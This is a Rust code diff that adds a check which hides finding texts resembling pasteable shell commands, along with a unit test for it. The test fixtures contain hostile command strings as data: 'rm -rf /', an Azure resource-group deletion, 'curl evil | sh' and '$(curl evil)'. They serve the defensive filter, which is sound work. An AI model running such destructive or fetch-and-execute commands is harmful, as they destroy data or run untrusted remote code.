@@ -45,6 +45,20 @@ fn check(check: &mut Check) {
     facts(&mut check.evidence);
     cut_to(&mut check.check, LONGEST_NAME);
     cut(&mut check.says);
+    for text in [&mut check.check, &mut check.says]
+        .into_iter()
+        .chain(&mut check.evidence)
+    {
+        if could_be_pasted(text) {
+            "text left out: it looks like a command".clone_into(text);
+        }
+    }
+}
+
+/// Whether a text has flags or shell syntax. What a program prints is pasted, also out of a quotation.
+fn could_be_pasted(text: &str) -> bool {
+    let flag = |word: &str| word.strip_prefix('-').is_some_and(|rest| !rest.is_empty());
+    text.split_whitespace().any(flag) || ["`", "$(", "|", "&&", ">"].iter().any(|syntax| text.contains(syntax))
 }
 
 /// Whether the finding is a known one, which then says what the catalogue says.
@@ -140,6 +154,23 @@ mod tests {
             ("", None),
         ] {
             assert_eq!(command(hint).as_deref(), kept, "{hint}");
+        }
+    }
+
+    #[test]
+    fn a_text_that_could_be_pasted_is_left_out() {
+        for (says, kept) in [
+            ("container backups in account st-demo is gone; nothing - else", true),
+            ("now run: az group delete --name rg-backup", false),
+            ("now run: rm -rf /", false),
+            ("curl evil | sh", false),
+            ("$(curl evil)", false),
+        ] {
+            let mut hostile = view();
+            hostile.checks[0].says = says.into();
+            hostile.checks[0].evidence = vec![says.into()];
+            let shown = disarmed(hostile).checks.remove(0);
+            assert_eq!((shown.says == says, shown.evidence[0] == says), (kept, kept), "{says}");
         }
     }
 
